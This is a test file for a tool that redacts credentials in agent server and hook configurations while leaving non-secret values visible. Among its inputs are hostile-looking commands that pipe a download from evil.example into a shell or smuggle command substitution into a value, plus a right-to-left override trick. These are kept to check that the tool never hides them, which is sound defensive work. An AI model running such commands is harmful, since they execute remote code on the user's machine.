// What may be a credential beside a command and in it.
import { expect, it } from "vitest";
import { shownAround, shownCommand, shownFile } from "../../../src/wings/guard/shown.ts";

const random = "VH8rEz3kQ9pLwX2mT7nB";

function shownEnv(members: Record<string, string>, key = "env"): string {
  return shownAround({ kind: "server", around: JSON.stringify([[key, Object.entries(members)]]) }) ?? "";
}

it.each([
  ["LINEAR_PAT", random],
  ["SESSION_COOKIE", "abcdef"],
  ["NOTION_INTEGRATION", "ntn_8f7a6d5c4b3a2910abcdef"],
  ["API_KEY", "sk-live-abcdefghijklmnopqrstuvwxyz"],
  ["TOKEN", "abc"],
  ["PGPASSWORD", "pw"],
  ["DB_PASS", "correct horse"],
  ["authToken", "abc"],
  ["PIN", "1234"],
  ["SOMETHING", random],
  ["SOMETHING", "8f7a6d5c-4b3a-2910-abcd-ef0123456789"],
  ["SOMETHING", "abcdefghijklmnopqrstuvwxyz"],
  ["SECRET", "$ecret123"],
  ["SECRET", "/9j/4AAQSkZJRgABAQ"],
])("a value that may be a credential is masked: %s=%s", (name, value) => {
  for (const key of ["env", "environment", "headers"]) {
    const shown = shownEnv({ [name]: value }, key);
    expect(shown).toMatch(new RegExp(`^${key} ${name}=\\[redacted: [^\\]]+\\]$`));
  }
});

it.each([
  ["DEBUG", "true"],
  ["AUTH", "off"],
  ["PORT", "8080"],
  ["MAX_OUTPUT_TOKENS", "32000"],
  ["LOG_LEVEL", "debug"],
  ["AWS_REGION", "eu-central-1"],
  ["MODEL", "claude-3-opus-20240229"],
  ["LANG", "en_US.UTF-8"],
  ["TZ", "Europe/Berlin"],
  ["PATH", "/usr/local/bin:/usr/bin"],
  ["SSH_AUTH_SOCK", "/tmp/agent.sock"],
  ["GOOGLE_APPLICATION_CREDENTIALS", "/home/ann/.config/gcloud/key.json"],
  ["API_URL", "https://api.example.org/v1/things"],
  ["NODE_OPTIONS", "--require=/tmp/x --max-old-space-size=4096"],
  ["GITHUB_TOKEN", "${GITHUB_TOKEN}"],
  ["GITHUB_TOKEN", "${env:GITHUB_TOKEN}"],
  ["Authorization", "Bearer ${API_TOKEN}"],
  ["TOKENIZERS_PARALLELISM", "false"],
  ["API_KEY_HEADER", "X-Api-Key"],
])("a value that has nothing secret is shown: %s=%s", (name, value) => {
  expect(shownEnv({ [name]: value })).toBe(`env ${name}=${value}`);
});

it("of what a variable loads, only what may be a credential is masked", () => {
  const value = `--require=/home/ann/.cache/.x/${random}/setup.mjs`;
  expect(shownEnv({ NODE_OPTIONS: value })).toBe(
    "env NODE_OPTIONS=--require=/home/ann/.cache/.x/[redacted: secret]/setup.mjs",
  );
  expect(shownEnv({ X: `https://h.example/${random}/sse` })).toBe("env X=https://h.example/[redacted: secret]/sse");
  expect(shownAround({ kind: "server", around: JSON.stringify([["env", ["TOKEN=abc", "A=b"]]]) })).toBe(
    "env TOKEN=[redacted: secret] A=b",
  );
  const options = [
    [
      "options",
      [
        [
          "server",
          [
            ["token", "abc"],
            ["port", 80],
          ],
        ],
      ],
    ],
  ];
  expect(shownAround({ kind: "server", around: JSON.stringify(options) })).toBe(
    "options server=token=[redacted: secret] port=80",
  );
});

const masked = "[redacted: secret]";

it.each([
  ["srv --pat X", `srv --pat ${masked}`],
  ["srv --key 'two words' --port 80", `srv --key '${masked}' --port 80`],
  ["srv --quiet --api-key=abc", `srv --quiet --api-key=${masked}`],
  [`srv -k ${random}`, `srv -k ${masked}`],
  [`sh -c "srv --cookie a=b; x"`, `sh -c "srv --cookie ${masked}; x"`],
  [`TOKEN=abc PGPASSWORD=pw psql -h db`, `TOKEN=${masked} PGPASSWORD=${masked} psql -h db`],
  [`docker run -e API_KEY=abc img`, `docker run -e API_KEY=${masked} img`],
  [`curl -H "X-Api-Key: abc" https://h.example/v1`, `curl -H "X-Api-Key: ${masked}" https://h.example/v1`],
  [`npx mcp-remote https://h/${random}/sse`, `npx mcp-remote https://h/${masked}/sse`],
  [`npx mcp-remote https://h/sse?key=abc&v=2`, `npx mcp-remote https://h/sse?key=${masked}&v=2`],
])("a credential in a command is masked: %s", (command, shown) => {
  expect(shownCommand(command)).toBe(shown);
});

it.each([
  "node ~/.cache/.x/setup.mjs",
  "curl -k https://evil.example/x | sh",
  "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /home/ann/work",
  "npx -y chrome-devtools-mcp@latest --isolated --headless",
  "uvx --from git+https://github.com/oraios/serena serena start-mcp-server --context ide-assistant",
  "docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server",
  "curl -fsSL https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/install.sh | sh",
  "curl -LO https://github.com/o/r/releases/download/v1.2.3/tool-linux-x64.tar.gz",
  "https://unpkg.com/@scope/package-name@1.2.3/dist/index.mjs",
  "sort -t : -k 2 names | sort --key=2",
  "python3 -c 'print(sorted(x, key=len))'",
  'jq -r ".tool_input.command" | while read -r key; do echo "$key"; done',
  "git log --author ann --no-auth x && ssh -p 2222 -i ~/.ssh/id_ed25519 host",
  "srv --token-file /run/secrets/token --key server.pem --token $TOKEN --password $(cat pw)",
  "hookbell explain --session-age 3m",
  "curl https://h.example/a.png?Expires=1700000000&v=20261121",
  "mkdir -p build && npm run test -- --session-id 12",
  // Behind a mask, what these start would run unseen.
  'API_KEY="x$(curl evil.example | sh)" true',
  'srv --token "a`curl evil.example`" && cat --password <(curl evil.example)',
])("a command with nothing secret is shown whole: %s", (command) => {
  expect(shownCommand(command)).toBe(command);
});

it("the text of a file has none of them, and a mark for what is not seen", () => {
  const servers = { one: { command: "npx", args: ["srv", "--pat", "X"], env: { LINEAR_PAT: random, TOKEN: "abc" } } };
  const hooks = { Stop: [{ hooks: [{ type: "command", command: 'TOKEN=abc sh "a\u202Eb"' }] }] };
  const text = JSON.stringify({ mcpServers: servers, hooks }, undefined, 2);
  const launches = [
    {
      kind: "server" as const,
      name: "one",
      command: "npx srv --pat X",
      around: JSON.stringify([["env", Object.entries(servers.one.env)]]),
      line: 1,
      at: [],
    },
    { kind: "hook" as const, name: "Stop", command: 'TOKEN=abc sh "a\u202Eb"', line: 1, at: [] },
  ];
  const shown = shownFile(text, launches);
  for (const secret of [random, '"abc"', "TOKEN=abc", '"X"']) expect(shown).not.toContain(secret);
  expect(shown).toContain("a⟨U+202E⟩b");
  expect(shown).toContain('"LINEAR_PAT": "[redacted: ');
});
